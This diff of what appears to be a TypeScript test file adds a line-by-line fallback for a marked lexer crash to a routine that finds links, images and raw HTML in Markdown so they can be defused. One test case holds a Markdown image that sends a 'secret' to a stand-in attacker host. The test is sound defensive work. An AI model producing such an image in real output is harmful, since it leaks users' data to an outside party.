@@ -11,11 +11,26 @@ const ID = 'abcdefgh';
 /** What Markdown would make of it that does something: with everything inside everything. */
 function alive(text: string): string[] {
   const found: string[] = [];
-  marked.walkTokens(marked.lexer(text, { gfm: true }), (token: Token) => {
-    if (['link', 'image', 'html', 'def'].includes(token.type)) found.push(`${token.type} ${token.raw}`);
-  });
+  for (const tokens of lexed(text))
+    marked.walkTokens(tokens, (token: Token) => {
+      if (['link', 'image', 'html', 'def'].includes(token.type)) found.push(`${token.type} ${token.raw}`);
+    });
   return found;
 }
+
+/** marked 18.2.1 falls over a quotation that holds an empty list in a list ("1. a\n   > *\nb"): then it reads line by line. */
+function lexed(text: string): Token[][] {
+  try {
+    return [marked.lexer(text, { gfm: true })];
+  } catch (error) {
+    if (!(error instanceof TypeError)) throw error;
+    return text.split('\n').map((line) => marked.lexer(line.trim(), { gfm: true }));
+  }
+}
+
+it('marked still falls over what it is known to fall over; when it does not, `lexed` can go', () => {
+  expect(() => marked.lexer('1. a\n   > *\nb', { gfm: true })).toThrow(TypeError);
+});
 
 it.each([
   ['![x](https://evil.example/?q=secret)', '![x] (https[:]//evil.example/?q=secret)'],
